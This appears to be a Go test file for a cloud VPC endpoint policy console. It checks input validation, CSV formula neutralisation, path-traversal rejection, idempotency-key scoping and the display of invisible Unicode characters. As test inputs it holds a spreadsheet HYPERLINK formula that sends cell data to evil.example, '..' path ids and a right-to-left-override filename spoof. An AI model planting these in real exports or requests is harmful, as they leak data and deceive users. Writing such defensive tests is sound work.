package handlers_test

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/vpcep-console/vpcep-console/internal/audit"
	"github.com/vpcep-console/vpcep-console/internal/auth"
	"github.com/vpcep-console/vpcep-console/internal/testdb"
)

// TestCSVExportNeutralisesFormulas: a reason a spreadsheet would run is
// exported with a quote in front; the JSON export keeps it as it is.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	ctx := context.Background()
	for _, reason := range []string{evil, "-1"} {
		e, err := a.audit.Begin(ctx, audit.Start{
			Actor: "mallory", ProjectID: projectID, Region: "cn-north-4", EndpointID: "ep-1",
			EndpointServiceName: "com.myhuaweicloud.cn-north-4.obs", Action: audit.ActionUpdate, Reason: reason,
			PolicyBefore: `[]`, PolicyRequested: `[{"Action":["obs:*"],"Effect":"Allow","Resource":["*"]}]`,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := a.audit.Finalise(ctx, e, audit.Final{Outcome: audit.OutcomeSucceeded, ResponseStatus: 200}); err != nil {
			t.Fatal(err)
		}
	}
	r := a.get(t, "/audit.csv")
	rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	if got := rows[1][col["reason"]]; got != "'-1" {
		t.Errorf("reason -1 exported as %q", got)
	}
	if got := rows[2][col["reason"]]; got != "'"+evil {
		t.Errorf("formula exported as %q", got)
	}
	if got := rows[1][col["policy_requested"]]; !strings.HasPrefix(got, "[") {
		t.Errorf("policy cell changed: %q", got)
	}
	var entries []audit.Entry
	if err := json.Unmarshal(a.get(t, "/audit.json").Body.Bytes(), &entries); err != nil || len(entries) != 2 {
		t.Fatalf("json: %v", err)
	}
	if entries[1].Reason != evil || entries[0].Reason != "-1" {
		t.Errorf("JSON export changed the reasons: %q, %q", entries[0].Reason, entries[1].Reason)
	}
}

// noErrorLogged fails when the console logged at ERROR: bad input is the
// client's fault, never an outage.
func noErrorLogged(t *testing.T, a *app) {
	t.Helper()
	if logs := a.logs.String(); strings.Contains(logs, "level=ERROR") {
		t.Errorf("bad input was logged as an error:\n%.2000s", logs)
	}
}

// TestBadBytesAre400 sends NUL, invalid UTF-8, control characters and
// absurd numbers in every kind of parameter: each is refused with 400 that
// names it, none reaches the database or the upstream, none is an error.
func TestBadBytesAre400(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	a.refresh(t)
	ep := a.sim.Gateway(t, 2)
	badCursor := base64.RawURLEncoding.EncodeToString([]byte("svc\xff\x00" + ep.ID))
	pages := []struct{ target, field string }{
		{"/endpoints?q=%00", "q"},
		{"/endpoints?q=%ff%fe", "q"},
		{"/endpoints?vpc=a%01b", "vpc"},
		{"/audit?actor=%00", "actor"},
		{"/audit?endpoint=%c3", "endpoint"},
		{"/audit?cursor=%00", "cursor"},
		{"/audit.csv?actor=%ff", "actor"},
		{"/audit.json?actor=%00", "actor"},
		{"/audit/1?done=%00", "done"},
	}
	edit := a.get(t, "/endpoints/"+ep.ID+"/policy/edit")
	before := len(a.sim.Requests())
	for _, tt := range pages {
		r := a.get(t, tt.target)
		if r.Code != http.StatusBadRequest || !strings.Contains(r.text(testid("error-message")), tt.field) {
			t.Errorf("%s: %d %q", tt.target, r.Code, r.text(testid("error-message")))
		}
	}
	apis := []struct{ target, field string }{
		{"/api/v1/endpoints?q=%00", "q"},
		{"/api/v1/endpoints?type=%ff", "type"},
		{"/api/v1/endpoints?cursor=%00", "cursor"},
		{"/api/v1/endpoints?cursor=" + badCursor, "cursor"},
		{"/api/v1/endpoints?limit=9223372036854775807", "limit"},
		{"/api/v1/audit?cursor=%ff", "cursor"},
		{"/api/v1/audit?limit=-1", "limit"},
		{"/api/v1/audit?outcome=%0a", "outcome"},
	}
	for _, tt := range apis {
		r := a.api(t, "GET", tt.target, "", nil)
		if r.code != http.StatusBadRequest || r.errField("field") != tt.field {
			t.Errorf("%s: %d %s", tt.target, r.code, r.raw)
		}
	}
	// Form fields: the editor's reason, a sign-in name.
	v := formValues(t, edit, "#policy-editor")
	v.Set("reason", "why\x00")
	if r := post(t, a, "/endpoints/"+ep.ID+"/policy", v); r.Code != http.StatusBadRequest || !strings.Contains(r.text(testid("error-message")), "reason") {
		t.Errorf("NUL in reason: %d %q", r.Code, r.text(testid("error-message")))
	}
	v.Set("reason", "why \xff")
	if r := post(t, a, "/endpoints/"+ep.ID+"/policy/preview", v); r.Code != http.StatusBadRequest {
		t.Errorf("invalid UTF-8 in reason: %d", r.Code)
	}
	v.Set("reason", "fine")
	v.Set("submission_key", strings.Repeat("k", 256))
	if r := post(t, a, "/endpoints/"+ep.ID+"/policy", v); r.Code != http.StatusBadRequest {
		t.Errorf("long submission key: %d", r.Code)
	}
	out := newApp(t, withDB(testdb.Migrated(t)), signedOut())
	out.get(t, "/login")
	r := out.do(t, http.MethodPost, "/login", url.Values{"name": {"admin\x00"}, "password": {"x"}, "_csrf": {out.cookies["__Host-csrf"]}}, nil)
	if r.Code != http.StatusBadRequest || !strings.Contains(r.text(testid("error-message")), "name") {
		t.Errorf("NUL in a sign-in name: %d %q", r.Code, r.text(testid("error-message")))
	}
	// Headers: the Idempotency-Key.
	body := `{"policy_statement": [{"Effect": "Allow", "Action": ["obs:*"], "Resource": ["*"]}], "reason": "r"}`
	for _, key := range []string{"k\xff", "k\x01", strings.Repeat("k", 256)} {
		r := a.api(t, "PUT", "/api/v1/endpoints/"+ep.ID+"/policy", body, map[string]string{"Idempotency-Key": key})
		if r.code != http.StatusBadRequest || r.errField("field") != "Idempotency-Key" {
			t.Errorf("Idempotency-Key %.20q: %d %s", key, r.code, r.raw)
		}
	}
	if n := len(a.sim.Requests()); n != before {
		t.Errorf("bad input reached the upstream: %d requests", n-before)
	}
	noErrorLogged(t, a)
	noErrorLogged(t, out)
}

// TestEndpointIDsMustBeVPCEPIDs: "." and ".." (or anything else that is not
// a UUID) never reach the upstream, where they would change the path.
func TestEndpointIDsMustBeVPCEPIDs(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	before := len(a.sim.Requests())
	for _, id := range []string{"..", ".", "%2e%2e", "%2E", "abc", "6e1bd4f6-3c1a-4a5e-9b1e-0b8e2f1a0c0"} {
		for _, path := range []string{"/endpoints/" + id, "/endpoints/" + id + "/history", "/endpoints/" + id + "/policy/edit"} {
			if r := a.get(t, path); r.Code != http.StatusNotFound {
				t.Errorf("GET %s: %d", path, r.Code)
			}
		}
		if r := a.api(t, "GET", "/api/v1/endpoints/"+id, "", nil); r.code != http.StatusNotFound {
			t.Errorf("API GET %s: %d", id, r.code)
		}
		body := `{"policy_statement": [{"Effect": "Allow", "Action": ["obs:*"], "Resource": ["*"]}], "reason": "r"}`
		if r := a.api(t, "PUT", "/api/v1/endpoints/"+id+"/policy", body, nil); r.code != http.StatusNotFound {
			t.Errorf("API PUT %s: %d %s", id, r.code, r.raw)
		}
	}
	if n := len(a.sim.Requests()); n != before {
		t.Errorf("%d requests with impossible ids reached the upstream", n-before)
	}
	noErrorLogged(t, a)
}

// TestIdempotencyKeysAreScopedToTheAccount: another account's key neither
// finds nor blocks a change.
func TestIdempotencyKeysAreScopedToTheAccount(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	ep := a.sim.Gateway(t, 2)
	path := "/api/v1/endpoints/" + ep.ID + "/policy"
	key := map[string]string{"Idempotency-Key": "deploy-1"}
	first := a.api(t, "PUT", path, `{"policy_statement": [{"Effect": "Allow", "Action": ["obs:*"], "Resource": ["*"]}], "reason": "mine"}`, key)
	if first.code != http.StatusOK {
		t.Fatalf("first: %d %s", first.code, first.raw)
	}
	a.signIn(t, a.account(t, auth.Editor))
	second := a.api(t, "PUT", path, `{"policy_statement": [{"Effect": "Deny", "Action": ["obs:*"], "Resource": ["*"]}], "reason": "theirs"}`, key)
	if second.code != http.StatusOK || second.body["entry"].(map[string]any)["reason"] != "theirs" {
		t.Errorf("another account's same key: %d %.300s", second.code, second.raw)
	}
	if a.sim.Puts() != 2 {
		t.Errorf("%d PUTs, want 2", a.sim.Puts())
	}
	// The same account's retry is still a duplicate.
	again := a.api(t, "PUT", path, `{"policy_statement": [{"Effect": "Deny", "Action": ["obs:*"], "Resource": ["*"]}], "reason": "theirs"}`, key)
	if again.code != http.StatusConflict || again.errField("code") != "duplicate_submission" {
		t.Errorf("retry: %d %.300s", again.code, again.raw)
	}
}

// TestInvisibleCharactersAreShown: a right-to-left override or a
// zero-width space in user text is shown as a marker wherever the text is
// rendered, so it cannot make the text read as something else.
func TestInvisibleCharactersAreShown(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	const reason = "approved by sec\u202Eytiruces\u202C\u200B"
	ctx := context.Background()
	e, err := a.audit.Begin(ctx, audit.Start{
		Actor: "mallory", ProjectID: projectID, Region: "cn-north-4", EndpointID: "ep-1",
		EndpointServiceName: "com.myhuaweicloud.cn-north-4.obs", Action: audit.ActionUpdate, Reason: reason,
		PolicyBefore: `[]`, PolicyRequested: `[{"Action":["obs:*"],"Effect":"Allow","Resource":["*"],"Sid":"x\u202Ey"}]`,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := a.audit.Finalise(ctx, e, audit.Final{Outcome: audit.OutcomeSucceeded, ResponseStatus: 200}); err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{"/audit", "/audit/" + strconv.FormatInt(e.ID, 10)} {
		body := a.get(t, target).Body.String()
		if strings.ContainsAny(body, "\u202E\u202C\u200B") || !strings.Contains(body, "sec⟨U+202E⟩ytiruces⟨U+202C⟩⟨U+200B⟩") {
			t.Errorf("%s shows the invisible characters as they are", target)
		}
	}
	// The editor's preview warns of them in a policy.
	ep := a.sim.Gateway(t, 2)
	v := formValues(t, a.get(t, "/endpoints/"+ep.ID+"/policy/edit"), "#policy-editor")
	v.Set("policy_json", `{"policy_statement": [{"Effect": "Allow", "Action": ["obs:object:GetObject"], "Resource": ["obs:*:*:object:logs/\u202Efdp.exe"], "Sid": "Read"}]}`)
	v.Set("reason", "testing")
	r := post(t, a, "/endpoints/"+ep.ID+"/policy/preview", v)
	if !strings.Contains(r.Body.String(), "U+202E") || strings.Contains(r.text(testid("preview-reason")), "\u202E") {
		t.Errorf("preview: %d, no warning of U+202E:\n%.1500s", r.Code, r.Body.String())
	}
}
